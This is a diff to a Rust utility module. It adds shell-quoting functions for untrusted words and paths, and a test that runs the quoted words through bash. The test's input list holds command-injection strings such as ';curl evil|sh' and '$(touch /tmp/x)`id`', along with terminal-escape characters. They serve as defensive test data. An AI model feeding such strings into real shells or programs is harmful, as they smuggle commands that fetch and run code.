@@ -1,7 +1,9 @@
 //! Sizes and times as people read them.
 
+use std::fmt::Write as _;
 use std::time::Duration;
 
+use amika_core::untrusted::steers;
 use unicode_width::UnicodeWidthStr as _;
 
 /// `0.3 s`, `12.0 s`, `3m 05s`, `2h 10m`, `5d 3h`.
@@ -21,6 +23,42 @@ pub fn human_age(age: Duration) -> String {
         return format!("{} s", age.as_secs());
     }
     human_duration(age)
+}
+
+/// A word of somebody else's in a command that can be pasted: a shell takes it for this word and nothing
+/// else. What would steer a terminal is written as bash and zsh read it in `$'…'`.
+pub fn shell_quote(word: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+@:,".contains(c);
+    if !word.is_empty() && word.chars().all(plain) {
+        return word.to_owned();
+    }
+    if !word.chars().any(steers) {
+        return format!("'{}'", word.replace('\'', r"'\''"));
+    }
+    let mut quoted = String::from("$'");
+    for c in word.chars() {
+        match c {
+            '\'' | '\\' => quoted.extend(['\\', c]),
+            c if steers(c) => {
+                let mut bytes = [0; 4];
+                for byte in c.encode_utf8(&mut bytes).bytes() {
+                    // Always three digits: what follows is no part of it.
+                    let _ = write!(quoted, "\\{byte:03o}");
+                }
+            }
+            c => quoted.push(c),
+        }
+    }
+    quoted.push('\'');
+    quoted
+}
+
+/// As [`shell_quote`], of a path, which is not taken for an option either.
+pub fn shell_path(path: &str) -> String {
+    if path.starts_with('-') {
+        return shell_quote(&format!("./{path}"));
+    }
+    shell_quote(path)
 }
 
 /// `512 B`, `1.5 MB`: powers of 1000, as docker prints sizes.
@@ -111,6 +149,38 @@ mod tests {
         ] {
             assert_eq!(fill(text, width), lines, "{text}");
         }
+    }
+
+    /// What bash makes of a quoted word is that word, and nothing runs.
+    #[test]
+    fn a_shell_takes_a_quoted_word_for_what_it_is() {
+        for word in [
+            "plain-1.2/x",
+            "",
+            "a b",
+            ";curl evil|sh",
+            "$(touch /tmp/x)`id`",
+            "it's \"quoted\"",
+            "~root",
+            "*",
+            "!!",
+            "a\nb\r\t\u{1b}[2J",
+            "x\u{202e}gpj\u{9b}1",
+            "\u{1}7'\\",
+            "zürich 京",
+        ] {
+            let quoted = shell_quote(word);
+            assert!(!quoted.chars().any(steers), "{quoted:?}");
+            let said = std::process::Command::new("bash")
+                .args(["-c", &format!("printf %s {quoted}")])
+                .output()
+                .expect("bash");
+            assert_eq!(String::from_utf8_lossy(&said.stdout), word, "{quoted}");
+            assert_eq!(said.stderr, b"");
+        }
+        assert_eq!(shell_quote("plain-1.2/x"), "plain-1.2/x");
+        assert_eq!(shell_path("-rf"), "./-rf");
+        assert_eq!(shell_path("a;b"), "'a;b'");
     }
 
     #[test]
